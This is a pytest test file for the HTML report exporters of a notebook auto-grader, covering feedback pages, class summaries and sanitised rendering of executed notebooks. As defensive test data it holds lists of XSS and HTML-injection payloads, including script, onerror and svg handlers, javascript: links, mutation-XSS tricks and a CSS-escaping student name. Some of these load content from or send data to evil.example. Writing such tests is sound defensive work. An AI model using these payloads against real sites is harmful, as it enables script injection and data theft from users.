"""The pages: what stands in them, what never does, and that no content of a submission breaks them."""

from __future__ import annotations

import base64
import datetime as dt
import re
import struct
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from pace import costing_less_than

from grader.exporters import executed
from grader.exporters.html import class_page, executed_page, feedback_page
from grader.model import (
    Answer,
    Assignment,
    CellError,
    Criterion,
    Execution,
    ExecutionSummary,
    Finding,
    Item,
    Repair,
    Report,
    Score,
    Span,
    Submission,
    Text,
)

PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 640, 480) + b"\x08\x06\x00\x00\x00" + b"\x00" * 64
REPAIR = Repair(kind="data", cell=2, what="housing.csv", instead="train.csv", review=True)
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>"


class Page(HTMLParser):
    """A page as a browser would read it: its elements, its text, and the marks in an answer."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self._open: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if not {"style", "title"} & set(self._open):
            self.words += " " + data

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.elements if name == tag]

    @property
    def text(self) -> str:
        return " ".join(self.words.split())


def assert_safe(page: str, language: str) -> Page:
    """No script, no handler, no frame, nothing loaded from elsewhere; fit for UTF-8; the policy before all else."""
    page.encode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", page)
    read = Page(page)
    assert read.all("html") == [{"lang": language}]
    first = next(attrs for tag, attrs in read.elements if tag == "meta")
    assert first["http-equiv"] == "Content-Security-Policy"
    assert first["content"] == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    forbidden = {"script", "iframe", "object", "embed", "form", "input", "link", "base", "video", "audio", "button"}
    assert not forbidden & {tag for tag, _ in read.elements}
    for tag, attrs in read.elements:
        assert not [name for name in attrs if name.startswith("on") or name in ("srcset", "srcdoc", "action")]
        assert not re.search(r"url\(|position|@import", attrs.get("style", ""))
        assert attrs.get("src", "data:image/").startswith("data:image/"), (tag, attrs)
        assert not re.match(r"(javascript|data|vbscript)", attrs.get("href", "").strip().lower())
        assert attrs.get("http-equiv", "") != "refresh"
    assert len(read.all("style")) == 1
    style = page.partition("<style>")[2].partition("</style>")[0]
    assert "url(" not in style
    assert "@import" not in style
    return read


def assignment(**visibility: Any) -> Assignment:
    plain = tuple(
        Criterion(id=name, points=points, check=name)
        for name, points in (("runs", 4), ("r2", 10), ("plot_labelled", 6))
    )
    written = (
        Criterion(id="vanishing", points=12, check="mentions"),
        Criterion(id="cheap", points=8, check="mentions"),
        Criterion(id="sparse", points=2, check="mentions", bonus=True),
    )
    items = (
        Item(id="P1", title=Text(ko="선형 회귀", en="Linear regression"), points=20, criteria=plain),
        Item(id="P2", title=Text(ko="ReLU", en="Why ReLU"), points=20, criteria=written, **visibility),
    )
    return Assignment(id="hw1", title=Text(ko="과제 1", en="Homework 1"), total=40, items=items, sha256="ab" * 32)


def finding(criterion: str, points: float, earned: float | None, **kw: Any) -> Finding:
    outcome = "error" if earned is None else "passed" if earned == points else "partial" if earned else "failed"
    if outcome != "passed":
        kw.setdefault("feedback", f"Look at `{criterion}` again.")
    if earned is None:
        kw.setdefault("review", "close to the threshold")
    return Finding(criterion=criterion, outcome=kw.pop("outcome", outcome), earned=earned, points=points, **kw)


def score(item: str, *findings: Finding) -> Score:
    open_points = [f for f in findings if f.earned is None]
    earned = min(20.0, sum(f.earned or 0.0 for f in findings))
    reason = open_points[0].review if open_points else None
    return Score(item=item, points=None if reason else earned, max_points=20, findings=findings, needs_review=reason)


def usual_scores(**p1: Any) -> tuple[Score, ...]:
    return (
        score("P1", finding("runs", 4, 4), finding("r2", 10, 7.5, **p1), finding("plot_labelled", 6, 0)),
        score("P2", finding("vanishing", 12, 12), finding("cheap", 8, 0), finding("sparse", 2, 0, bonus=True)),
    )


def report(student: str = "김민지", language: str = "ko", scores: tuple[Score, ...] = (), **kw: Any) -> Report:
    scores = scores or usual_scores()
    decided = [s.points for s in scores]
    total = None if None in decided else sum(p for p in decided if p is not None)
    return Report(
        student=student,
        assignment="hw1",
        status="provisional" if total is None else "final",
        total=total,
        max_points=40,
        scores=scores,
        execution=kw.pop("execution", ExecutionSummary(status="ok", seconds=12.3)),
        language=language,
        submission_sha256="0" * 64,
        rubric_sha256="ab" * 32,
        grader_version="1.0",
        graded_at=dt.datetime(2021, 11, 8, 9, 30),
        **kw,
    )


def submission(answer: str = "", items: tuple[str | None, ...] = ()) -> Submission:
    answers = {"P2": Answer(text=answer, cells=(3,))} if answer else {}
    return Submission(student="김민지", path=Path("a.ipynb"), sha256="0" * 64, items_of_cells=items, answers=answers)


def code(source: str, *outputs: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "metadata": {}, "execution_count": 1, "outputs": list(outputs)}


def markdown(source: str, **kw: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source, "metadata": {}, **kw}


def shows(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def ran(*cells: Any, **kw: Any) -> Execution:
    return Execution(
        status=kw.pop("status", "ok"), submission_sha256="0" * 64, seconds=12.3, notebook={"cells": list(cells)}, **kw
    )


def feedback(given: Report, answer: str = "", execution: Execution | None = None, **kw: Any) -> Page:
    items = kw.pop("items", ())
    asked = kw.pop("asked", assignment())
    page = feedback_page(given, submission(answer, items), execution or ran(), asked, **kw)
    return assert_safe(page, given.language)


def notebook_page(*cells: Any, **kw: Any) -> Page:
    return assert_safe(executed_page(ran(*cells, **kw), "김민지", "ko"), "ko")


# ---------------------------------------------------------------- what the student reads


def test_feedback_tells_points_outcomes_and_sentences_in_both_languages() -> None:
    korean = feedback(report()).text
    assert "과제 1" in korean
    assert "23.5점" in korean
    for words in ("충족", "일부 충족", "아직 부족", "추가 점수", "새 데이터에서의 R²"):
        assert words in korean
    english = feedback(report(language="en")).text
    assert "23.5 points of 40 points" in english
    for words in ("Met", "Partly met", "Not yet", "bonus", "R² on unseen rows", "Look at r2 again."):
        assert words in english


def test_an_undecided_criterion_is_being_reviewed_and_never_zero() -> None:
    scores = (score("P1", finding("runs", 4, 4), finding("r2", 10, None)), usual_scores()[1])
    page = feedback(report(language="en", scores=scores)).text
    assert "16 points so far" in page
    assert "A person will look at P1 ." in page
    assert "undecided, at least 4" in page
    assert "Being reviewed / 10" in page
    assert "≥ 4 / 20" in page
    assert not re.search(r"(?<![\d.])0 / (10|20)", page.split("P2 Why ReLU")[0])
    assert "검토 중 / 10" in feedback(report(scores=scores)).text


def test_nothing_certain_is_no_number() -> None:
    nothing = report(
        language="en", scores=(score("P1", finding("r2", 10, None)), score("P2", finding("cheap", 8, None)))
    )
    page = feedback(nothing).text
    assert "Not decided yet out of 40 in all" in page
    assert "P1 open / 20" in page
    assert not re.search(r"(?<![\d.])0(?![\d.:-])", page.split("Graded")[0])
    source = class_page([nothing], assignment(), {})
    assert cells_of(source, nothing.student)[1:4] == ["open"] * 3


def test_an_undecided_criterion_of_a_full_item_waits_for_nobody() -> None:
    full = Score(
        item="P2", points=20, max_points=20, findings=(finding("vanishing", 12, 12), finding("cheap", 8, None))
    )
    page = feedback(report(language="en", scores=(usual_scores()[0], full))).text
    assert "31.5 points of 40" in page
    assert "full points without it" in page
    assert "A person will look" not in page


def test_what_was_seen_is_short_and_readable() -> None:
    seen = {"r2": 0.583219, "rmse": 71234.56, "tiny": 3.14159e-9, "sizes": list(range(50)), "ok": True, "ylabel": ""}
    page = feedback(report(language="en", scores=usual_scores(evidence=seen))).text
    for chip in ("R²: 0.5832", "RMSE: 71,235", "tiny: 3.142e-09", "4 · 5 · 44 more", "ok: yes", "y label: none"):
        assert chip in page


@pytest.mark.parametrize(
    ("level", "korean"),
    [
        ("held-out", "처음 보는 행에서 계산"),
        ("recomputed", "노트북의 행에서 다시 계산"),
        ("reported", "노트북이 출력한 값"),
    ],
)
def test_the_level_of_r2_is_said_in_words(level: str, korean: str) -> None:
    page = feedback(report(scores=usual_scores(evidence={"r2": 0.7, "level": level})))
    assert f"R²의 근거: {korean}" in page.text
    assert level not in page.text


def test_notes_and_reasons_for_review_stay_with_the_ta() -> None:
    scores = (score("P1", finding("r2", 10, None, review="leak suspected", notes=("printed 0.9",))), usual_scores()[1])
    page = feedback(report(scores=scores)).text
    assert "leak suspected" not in page
    assert "printed 0.9" not in page


def test_a_written_criterion_is_named_only_once_it_is_met() -> None:
    scores = (
        usual_scores()[0],
        score("P2", finding("vanishing", 12, 12), finding("cheap", 8, 0, evidence={"concept": "cheap-to-compute"})),
    )
    page = feedback(report(language="en", scores=scores), "기울기 소실").text
    assert "Point 1 vanishing" in page
    assert "Point 2 Look at" in page
    assert "cheap-to-compute" not in page


def test_a_hidden_item_shows_its_title_and_points_only() -> None:
    page = feedback(report(language="en"), "my own words", asked=assignment(visibility="hidden")).text
    assert "Why ReLU" in page
    assert "12 of 20 points" in page
    assert "Only the points" in page
    assert "vanishing" not in page
    assert "my own words" not in page


def test_an_item_that_the_assignment_does_not_know_shows_its_points() -> None:
    page = feedback(report(language="en", scores=(score("P9", finding("runs", 4, 4)),))).text
    assert "P9" in page
    assert "4 of 20 points" in page


def test_the_state_of_the_run_is_said_with_the_cell_and_the_error() -> None:
    error = CellError(cell=3, name="NameError", message="\x1b[31mname 'x' is not defined\x1b[0m")
    execution = ran(status="student_error", errors=(error,), repairs=(REPAIR,))
    given = report(language="en", warnings=("Two headings name P1.",))
    page = feedback(given, execution=execution, executed_link="../executed/김 민지.html")
    assert "Cell 3 NameError: name 'x' is not defined" in page.text
    assert (
        "Cell 2 there is no housing.csv ; the assignment's data train.csv was read instead a person will look"
        in page.text
    )
    assert "Two headings name P1." in page.text
    links = [attrs["href"] for attrs in page.all("a")]
    assert "../executed/%EA%B9%80%20%EB%AF%BC%EC%A7%80.html#cell-3" in links
    assert "not your fault" in feedback(given, execution=ran(status="infrastructure")).text


def test_repairs_of_the_class_are_listed_and_doubtful_ones_wait_for_a_person() -> None:
    told = Repair(kind="gpu", cell=4, what=".cuda()", instead="cpu")
    run = ExecutionSummary(status="ok", seconds=1, repairs=(told, REPAIR))
    given = report(language="en").model_copy(update={"execution": run})
    page = assert_safe(class_page([given], assignment(), {}), "en").text
    assert "repairs 2" in page
    assert page.count("there is no housing.csv") == 2
    assert page.index("Doubtful repairs") < page.index("there is no housing.csv") < page.index("it ran on the CPU")
    assert page.count("it ran on the CPU") == 1


def test_what_many_wait_for_is_said_once_with_all_their_names() -> None:
    error = CellError(cell=3, name="ZeroDivisionError", message="division by zero")
    run = ExecutionSummary(status="student_error", seconds=1, repairs=(REPAIR,), errors=(error,))
    same = (score("P1", finding("r2", 10, None, review="a leak?", notes=("printed 0.9",))), usual_scores()[1])
    alone = (score("P1", finding("r2", 10, None, review="close"), finding("runs", 4, None, review="a leak?")), same[1])
    many = [report(f"s{n:03}", "en", same, execution=run) for n in range(100)]
    links = {one.student: f"feedback/{one.student}.html" for one in many}
    source = class_page([*many, report("alone", "en", alone)], assignment(), links)
    page = assert_safe(source, "en")
    waits = source.partition('id="needs-person"')[2].partition("</section>")[0]
    for told in ("a leak?", "ZeroDivisionError", "close"):
        assert waits.count(told) == 1 + (told == "a leak?")  # `runs` waits for it too
    assert "What needs a person 201" in page.text
    assert "100 students s000 , s001 ," in Page(waits).text
    assert waits.count("feedback/s042.html") == 3
    assert source.count("printed 0.9") == 1
    assert "students" not in Page(waits).text.partition("close")[0][-20:]


def test_long_lists_of_the_class_page_are_folded() -> None:
    notes = [score("P1", finding("r2", 10, 5, notes=(f"printed {n}",))) for n in range(40)]
    source = class_page([report(f"s{n:03}", "en", (one,)) for n, one in enumerate(notes)], assignment(), {})
    listed = source.partition('id="notes"')[2]
    assert listed.partition("<details")[0].count("printed") == 15
    assert listed.count("printed") == 40


def test_the_class_page_begins_with_who_is_missing_and_how_much_waits_for_a_person() -> None:
    run = ExecutionSummary(status="ok", seconds=1, repairs=(REPAIR,))
    given = report(language="en").model_copy(update={"execution": run})
    waiting = sum(s.points is None for s in given.scores) + 1
    page = assert_safe(class_page([given], assignment(), {}, missing=["이도윤", "Park"]), "en").text
    top = page[: page.index("Distribution")]
    assert f"What needs a person {waiting}" in " ".join(top.split())
    assert "Handed in nothing 2" in " ".join(top.split())
    assert "Handed in nothing" not in class_page([given], assignment(), {})


@pytest.mark.parametrize("text", [HOSTILE, "\ud800 lone \x00\x1b[31m\x07", "a\u202eb", "{{ 7 * 7 }}{% raw %}"])
def test_nothing_a_student_writes_breaks_a_page(text: str) -> None:
    spans = (Span(start=0, end=9, concept=text, phrase=text), Span(start=5, end=10_000, concept="x", phrase="x"))
    scores = (
        score("P1", finding("runs", 4, 0, feedback=text, evidence={text: text, "list": [text, {text: None}]})),
        score("P2", finding("vanishing", 12, 12, spans=spans, notes=(text,)), finding("cheap", 8, None, review=text)),
    )
    error = CellError(cell=1, name=text, message=text)
    execution = ran(
        markdown(text),
        code(text),
        status="student_error",
        errors=(error,),
        repairs=(Repair(kind="data", cell=1, what=text, instead=text),),
    )
    given = report(text, scores=scores, warnings=(text,))
    assert "49" not in feedback(given, text, execution, executed_link=text).text
    assert_safe(class_page([given], assignment(), {text: text}), "ko")
    assert_safe(executed_page(execution, text, "ko"), "ko")


# ---------------------------------------------------------------- the student's own words


def marked(page: Page, source: str) -> list[tuple[str, str]]:
    """Text under each mark with the names in its title, tags taken out."""
    found = re.findall(r'<mark class="\w+" title="([^"]*)">(.*?)</mark>', source, re.DOTALL)
    return [(names, re.sub(r'<span class="tag">.*?</span>', "", text)) for names, text in found]


def test_spans_mark_exactly_their_words_also_where_they_overlap() -> None:
    text = "기울기 소실 때문에\n계산이 빠른 ReLU"
    first = (Span(start=0, end=6, concept="c", phrase="p"), Span(start=4, end=10, concept="c", phrase="p"))
    second = (Span(start=7, end=14, concept="d", phrase="q"), Span(start=18, end=400, concept="d", phrase="q"))
    scores = (
        usual_scores()[0],
        score("P2", finding("vanishing", 12, 12, spans=first), finding("cheap", 8, 8, spans=second)),
    )
    source = feedback_page(report(scores=scores), submission(text), ran(), assignment())
    assert marked(assert_safe(source, "ko"), source) == [
        ("vanishing", "기울기 소실 "),
        ("vanishing, cheap", "때문에"),
        ("cheap", "\n계산이"),
        ("cheap", text[18:]),
    ]
    quoted = source.split('<blockquote class="answer">')[1].split("</blockquote>")[0]
    assert re.sub(r'<span class="tag">.*?</span>|</?mark[^>]*>', "", quoted) == text
    assert quoted.count('<span class="tag">vanishing</span>') == 1


def test_an_item_without_an_answer_says_so() -> None:
    assert "No written answer was found" in feedback(report(language="en")).text


# ---------------------------------------------------------------- plots


def test_only_real_pngs_of_the_items_cells_are_shown_and_four_at_most() -> None:
    good = base64.b64encode(PNG).decode()
    outputs = [
        shows({"image/png": "aGVsbG8="}),
        shows({"image/png": "not base64 <script>"}),
        shows({"image/png": base64.b64encode(PNG + b"\0" * 1_100_000).decode()}),
        shows({"image/png": base64.b64encode(PNG.replace(struct.pack(">I", 640), b"\x7f\xff\xff\xff")).decode()}),
        shows({"image/png": [good[:40] + "\n", good[40:]]}),
        *[shows({"image/png": good})] * 9,
    ]
    execution = ran(code("a", *outputs), code("b", shows({"image/png": good})), "not a cell", code("c"))
    pictures = feedback(report(), execution=execution, items=("P1", None, "P1", "P2")).all("img")
    assert [picture["src"] for picture in pictures] == [f"data:image/png;base64,{good}"] * 4
    assert "1번 셀" in pictures[0]["alt"]


# ---------------------------------------------------------------- the class


def cells_of(source: str, student: str) -> list[str]:
    table = source.partition('<table class="students">')[2]
    row = next(row for row in re.findall(r"<tr.*?</tr>", table, re.DOTALL) if f">{student}<" in row)
    return [" ".join(Page(cell).text.split()) for cell in re.findall(r"<t[hd].*?</t[hd]>", row, re.DOTALL)]


def test_the_class_page_lists_students_points_and_what_waits() -> None:
    waiting = (score("P1", finding("runs", 4, 4), finding("r2", 10, None)), usual_scores()[1])
    failed = ExecutionSummary(
        status="timeout", seconds=300, errors=(CellError(cell=8, name="CellTimeout", message="90 seconds"),)
    )
    given_by_hand = Score(item="P2", points=None, max_points=20, findings=(), needs_review="a person's note")
    noted = usual_scores(notes=("printed `R²` differs",))
    reports = [
        report("이서진", "en", scores=noted),
        report("김도윤", "en", scores=(waiting[0], given_by_hand)),
        report("Ada", "en", execution=failed, warnings=("cut off",)),
    ]
    source = class_page(reports, assignment(), {"김도윤": "feedback/김도윤.html"})
    page = assert_safe(source, "en")
    assert cells_of(source, "김도윤")[1:5] == ["≥ 4", "open", "≥ 4", "provisional"]
    assert cells_of(source, "이서진")[1:5] == ["11.5", "12", "23.5", "final"]
    assert cells_of(source, "Ada")[5:] == ["out of time 300 s", "warnings 1"]
    assert {"href": "feedback/%EA%B9%80%EB%8F%84%EC%9C%A4.html"} in page.all("a")
    assert (
        "Submissions 3 Final 2 Provisional 1 What needs a person 2 Trouble running 1 Mean 23.5 / 40 Median 23.5 / 40"
        in page.text
    )
    assert "P1 Linear regression 1 김도윤 r2 close to the threshold" in page.text
    assert "P2 Why ReLU 1 김도윤 a person's note" in page.text
    assert "Ada Cell 8 out of time · CellTimeout: 90 seconds" in page.text
    assert "이서진 P1 r2 printed R² differs" in page.text
    assert "met by 0 of 3 · Partly met 2 · Being reviewed 1" in page.text


def test_undecided_points_are_in_no_histogram_and_no_mean() -> None:
    waiting = (score("P1", finding("r2", 10, None)), usual_scores()[1])
    source = class_page([report("a", scores=waiting)], assignment(), {})
    page = assert_safe(source, "ko")
    distribution = Page(source.partition('id="distribution"')[2].partition("</section>")[0])
    labels = [attrs["aria-label"] for tag, attrs in distribution.elements if attrs.get("role") == "img"]
    assert len(labels) == 3
    assert "0–4점: 0명" in labels[0]
    assert "0–2점: 0명" in labels[1]
    assert "12–14점: 1명" in labels[2]
    assert "미정 1" in page.text
    assert "평균 – / 40" in page.text


def test_a_class_page_of_three_hundred_with_long_names_and_of_nobody() -> None:
    names = [f"2021{n:04d} 황보 하늘별빛나래솔아가은누리보람" for n in range(300)]
    with costing_less_than(100):
        source = class_page(
            [report(name) for name in names], assignment(), {name: f"feedback/{name}.html" for name in names}
        )
    page = assert_safe(source, "ko")
    assert all(f">{name}</a>" in source for name in names)
    assert "제출 300" in page.text
    assert "제출 0" in assert_safe(class_page([], assignment(), {}), "ko").text
    assert "아직 채점한 제출물이 없습니다" in class_page([], assignment(), {})


def test_the_class_page_speaks_the_language_of_most_reports() -> None:
    reports = [report("a", "en"), report("b", "ko"), report("c", "en")]
    assert "Class results" in assert_safe(class_page(reports, assignment(), {}), "en").text


# ---------------------------------------------------------------- the executed notebook


def test_every_cell_has_an_anchor_its_number_and_its_outputs() -> None:
    table = '<style scoped>.x{position:fixed}</style><table class="dataframe"><tr><td>12.5</td></tr></table>'
    page = notebook_page(
        markdown("# 제목\n\n- **굵게** `code`"),
        code(
            "x = '<b>'", {"output_type": "stream", "name": "stdout", "text": "10%\r 50%\r100%\nloss\x1b[31m 0.5\x1b[0m"}
        ),
        {"cell_type": "raw", "source": "raw & text", "metadata": {}},
        code("df", shows({"text/html": table, "text/plain": "plain"})),
        code("plot", shows({"image/png": base64.b64encode(PNG).decode(), "text/plain": "<Figure>"})),
        errors=(CellError(cell=2, name="ValueError", message="no"),),
    )
    sections = [attrs for attrs in page.all("section") if "cell" in attrs["class"].split()]
    assert [attrs["id"] for attrs in sections] == [f"cell-{n}" for n in range(1, 6)]
    assert sections[1]["class"] == "cell code failed"
    assert {"class": "dataframe"} in page.all("table")
    assert len(page.all("img")) == 1
    for words in ("제목", "굵게", "'<b>'", "100% loss 0.5", "raw & text", "12.5", "2번 셀 ValueError: no"):
        assert words in page.text
    assert "50%" not in page.text
    assert "plain" not in page.text


HOSTILE_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT/SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">y</a><a href="data:text/html,x">z</a>',
    "<style>body{position:fixed;background:url(https://evil.example)}</style><div style='position:fixed;top:0'>o</div>",
    '<div style="background-image:url(https://evil.example/a.png);color:red">x</div>',
    '<img src="https://evil.example/pixel.png"><img srcset="https://evil.example/2.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<form action="https://evil.example"><input name=q><button>go</button></form>',
    '<section id="cell-1" class="notice masthead">imitation</section>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "</div></div></section></main><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\ud83d lone \x00 \x08 control",
]


@pytest.mark.parametrize("markup", HOSTILE_MARKUP)
def test_a_students_markup_neither_runs_nor_loads_nor_imitates(markup: str) -> None:
    page = notebook_page(
        markdown(markup),
        markdown(f"text {markup} [link](javascript:alert(1)) ![image](https://evil.example/a.png)"),
        code(markup, shows({"text/html": markup, "text/plain": "plain"}), shows({"text/markdown": markup})),
        {"cell_type": "raw", "source": markup, "metadata": {"raw_mimetype": "text/html"}},
        code("1", {"output_type": "stream", "name": "stderr", "text": markup}),
        code("2", {"output_type": "error", "ename": markup, "evalue": markup, "traceback": [markup]}),
        code("3", shows({"text/plain": markup}), shows({"text/latex": markup})),
    )
    ids = [attrs["id"] for _, attrs in page.elements if "id" in attrs]
    assert ids == [f"cell-{n}" for n in range(1, 8)]
    assert len(page.all("header")) == 1


def test_outputs_that_run_are_left_out_and_metadata_reaches_no_attribute() -> None:
    png = base64.b64encode(PNG).decode()
    attributes = {
        "image/png": {"width": "1 onload=alert(1)", "alt": '"><script>'},
        "filenames": {"image/png": "//evil"},
    }
    page = notebook_page(
        code("1", shows({"application/javascript": "alert(1)", "text/plain": "kept"})),
        code("2", shows({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "100%|###|"})),
        code("3", shows({"image/svg+xml": "<svg onload=alert(1)></svg>"})),
        code("4", shows({"image/png": png}, **attributes)),
        code("5", shows({"text/html": "<b>bold</b>"}, **{"text/html": {"isolated": True}})),
        code("6", shows({"image/png": '"><script>alert(1)</script>', "text/plain": "no picture"})),
        code("7", shows({"text/html": "<script>Plotly.newPlot()</script>", "text/plain": "Figure({})"})),
    )
    for words in ("kept", "100%|###|", "[image/svg+xml]", "bold", "no picture", "Figure({})"):
        assert words in page.text
    assert "alert" not in page.text
    assert "Plotly" not in page.text
    assert page.all("img") == [{"src": f"data:image/png;base64,{png}", "alt": ""}]


def test_an_attachment_is_shown_and_a_missing_one_is_not_fatal() -> None:
    png = base64.b64encode(PNG).decode()
    attachments = {"a.png": {"image/png": png}, "b.png": {"image/png": "bm90IGEgcG5n"}, "c.svg": {"image/svg+xml": "x"}}
    source = "**bold** ![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c.svg) ![d](attachment:d.png)"
    page = notebook_page(markdown(source, attachments=attachments))
    assert [picture.get("src") for picture in page.all("img")] == [f"data:image/png;base64,{png}", None, None, None]
    assert "bold" in page.text


ODD_CELLS: list[Any] = [
    None,
    "text",
    7,
    [],
    {},
    {"cell_type": "heading", "source": ["a", "b"]},
    {"cell_type": "code", "source": None, "outputs": "none"},
    {
        "cell_type": "code",
        "source": "x",
        "outputs": [None, "x", {}, {"output_type": "stream"}, {"output_type": "error"}],
    },
    {
        "cell_type": "code",
        "source": "x",
        "outputs": [{"output_type": "execute_result", "data": {"text/plain": {"a": 1}}}],
    },
    {"cell_type": "markdown", "source": {"a": 1}, "attachments": ["x"]},
    {"cell_type": "markdown", "source": "![a](attachment:a)", "attachments": {"a": "x"}},
]


def test_cells_of_any_shape_keep_their_numbers() -> None:
    page = notebook_page(*ODD_CELLS)
    assert [attrs["id"] for _, attrs in page.elements if "id" in attrs] == [f"cell-{n}" for n in range(1, 12)]
    for notebook in (None, {}, {"cells": None}, {"cells": {}}):
        empty = executed_page(Execution(status="unreadable", submission_sha256="0" * 64, notebook=notebook), "a", "en")
        assert "There is no notebook to show." in assert_safe(empty, "en").text


def test_a_notebook_that_cannot_be_laid_out_is_shown_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> None:
        raise RecursionError

    monkeypatch.setattr(executed, "render_cells", fails)
    page = notebook_page(
        markdown(HOSTILE),
        code("x = 1", {"output_type": "stream", "text": HOSTILE}, shows({"image/png": base64.b64encode(PNG).decode()})),
        *ODD_CELLS,
    )
    assert "내용을 글자 그대로" in page.text
    assert "x = 1" in page.text
    assert [attrs["id"] for _, attrs in page.elements if "id" in attrs] == [f"cell-{n}" for n in range(1, 14)]


@pytest.mark.parametrize(
    "piece", ["<div>", "<b><i>", "[", "*a **a ", "> ", "![a](", "|a", "<!--", "<a href=", "</b><b>"]
)
def test_markup_made_to_be_slow_is_not(piece: str) -> None:
    notebook_page(markdown("warm"))
    with costing_less_than(80):
        notebook_page(markdown(piece * 12_000), code("x", shows({"text/html": piece * 12_000, "text/plain": "x"})))


# ---------------------------------------------------------------- on paper


def test_every_sheet_says_whose_it_is_and_a_name_is_no_style() -> None:
    hostile = 'kim"; } body { display: none } </style><script>x</script> \\'
    page = feedback_page(report(hostile, language="en"), submission("my own words"), ran(), assignment())
    assert_safe(page, "en")
    style = page.partition("<style>")[2].partition("</style>")[0]
    assert "size: A4" in style
    assert '@top-left { content: "kim\\22 \\3b ' in style
    assert "display: none }" not in style.partition("@top-left")[2].partition("@page :first")[0]
